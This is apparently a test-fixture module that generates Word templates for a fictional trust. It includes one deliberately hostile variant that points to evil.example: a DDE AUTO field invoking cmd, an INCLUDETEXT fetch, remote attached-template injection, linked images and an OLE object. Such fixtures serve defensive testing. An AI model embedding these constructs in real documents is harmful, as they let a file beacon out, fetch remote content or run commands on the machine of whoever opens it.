"""Word templates as a trust might have them, and as somebody might send one who means no good."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

from docx import Document
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls, qn
from docx.shared import Mm, Pt, RGBColor
from PIL import Image, ImageDraw

LINK = "http://evil.example/collect"
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
PICTURE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
ATTACHED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def logo() -> bytes:
    image = Image.new("RGB", (360, 90), (0, 94, 60))
    ImageDraw.Draw(image).text((20, 30), "FERNHILL TRUST (fictional)", fill=(255, 255, 255))
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_a_logo(change: Callable[[Any], None] | None = None) -> bytes:
    """Green headings, a logo in the header, an address in the footer, wide margins; old text in the body."""
    document = Document()
    section = document.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.left_margin, section.right_margin, section.top_margin = Mm(30), Mm(25), Mm(35)
    section.header.paragraphs[0].add_run().add_picture(io.BytesIO(logo()), width=Mm(55))
    section.footer.paragraphs[0].text = "Fernhill Trust, a fictional organisation"
    for name in ("Heading 1", "Heading 2", "Title"):
        document.styles[name].font.color.rgb = RGBColor(0, 0x5E, 0x3C)
        document.styles[name].font.name = "Georgia"
    document.styles["Normal"].font.name, document.styles["Normal"].font.size = "Georgia", Pt(11)
    document.add_paragraph("Text of an old paper")
    document.core_properties.author = "Somebody Else"
    if change:
        change(document)
    return saved(document)


def landscape(document: Any) -> None:
    section = document.sections[0]
    section.page_width, section.page_height = Mm(297), Mm(210)


def without_our_styles(document: Any) -> None:
    """Only what Word keeps where nobody used more: no heading but the first, no caption, no list."""
    styles = document.styles.element
    for style in list(styles.iterchildren(qn("w:style"))):
        if style.get(qn("w:styleId")) not in ("Normal", "Heading1", "DefaultParagraphFont", "TableNormal", "NoList"):
            styles.remove(style)
    for ident, relation in list(document.part.rels.items()):
        if relation.reltype.endswith("/numbering"):
            del document.part.rels[ident]


def in_german(document: Any) -> None:
    """Word in German calls the same styles by other ids; and one of theirs has an id of ours."""
    for style in document.styles.element.iterchildren(qn("w:style")):
        if style.get(qn("w:styleId")) == "Heading1":
            style.set(qn("w:styleId"), "berschrift1")
        for pointing in style.iterchildren(qn("w:basedOn"), qn("w:link")):
            if pointing.get(qn("w:val")) == "Heading1":
                pointing.set(qn("w:val"), "berschrift1")
    other = document.styles.add_style("Lead author", WD_STYLE_TYPE.PARAGRAPH)
    other.element.set(qn("w:styleId"), "Lead")


def with_a_table_style(document: Any) -> None:
    style = document.styles.add_style("Trust table", WD_STYLE_TYPE.TABLE)
    style.element.set(qn("w:default"), "1")


def first_page_and_even_ones_apart(document: Any) -> None:
    section = document.sections[0]
    section.different_first_page_header_footer = True
    section.first_page_header.paragraphs[0].text = "Letterhead"
    document.settings.odd_and_even_pages_header_footer = True


def two_sections(document: Any) -> None:
    document.add_section()


def numbered_footer(document: Any) -> None:
    paragraph = document.sections[0].footer.paragraphs[0]._p
    for name in ("PAGE", "NUMPAGES"):
        paragraph.append(
            parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr=" {name} "><w:r><w:t>1</w:t></w:r></w:fldSimple>')
        )


def reaching_outside(document: Any) -> None:
    """Linked pictures, links, fields that fetch, an attached template, an object, an old-style picture."""
    header = document.sections[0].header
    part, paragraph = header.part, header.paragraphs[0]._p
    linked = part.relate_to(LINK, HYPERLINK, is_external=True)
    fetched = part.relate_to(f"{LINK}.png", PICTURE, is_external=True)
    document.part._settings_part.element.append(
        parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{_attached(document)}"/>')
    )
    document.part.relate_to(LINK, HYPERLINK, is_external=True)
    spaces = nsdecls("w", "r", "a", "pic", "wp") + ' xmlns:v="urn:schemas-microsoft-com:vml" '
    spaces += 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    for inner in (
        f'<w:hyperlink {spaces} r:id="{linked}"><w:r><w:t>Visible words</w:t></w:r></w:hyperlink>',
        f'<w:r {spaces}><w:drawing><wp:inline><a:graphic><a:graphicData uri="x"><pic:pic><pic:blipFill>'
        f'<a:blip r:link="{fetched}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>'
        "</w:r>",
        f'<w:r {spaces}><w:pict><v:shape><v:imagedata r:id="{fetched}" o:href="{LINK}.png"/></v:shape></w:pict></w:r>',
        f'<w:r {spaces}><w:object><o:OLEObject r:id="{linked}"/></w:object></w:r>',
        f'<w:fldSimple {spaces} w:instr=" INCLUDETEXT &quot;{LINK}&quot; "><w:r><w:t>Kept words</w:t></w:r>'
        "</w:fldSimple>",
        f'<w:r {spaces}><w:fldChar w:fldCharType="begin"/></w:r>',
        f"<w:r {spaces}><w:instrText> DDE</w:instrText></w:r>",
        f'<w:r {spaces}><w:instrText>AUTO cmd "{LINK}" </w:instrText></w:r>',
        f'<w:r {spaces}><w:fldChar w:fldCharType="separate"/></w:r>',
        f"<w:r {spaces}><w:t>Shown words</w:t></w:r>",
        f'<w:r {spaces}><w:fldChar w:fldCharType="end"/></w:r>',
    ):
        paragraph.append(parse_xml(inner))


def _attached(document: Any) -> str:
    made: str = document.part._settings_part.relate_to(LINK, ATTACHED, is_external=True)
    return made


def rewritten(content: bytes, **changes: bytes) -> bytes:
    """The package with parts added or replaced."""
    wanted = dict(changes)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, wanted.pop(name, b"") or old.read(name))
        for name, each in wanted.items():
            new.writestr(name, each)
    return out.getvalue()
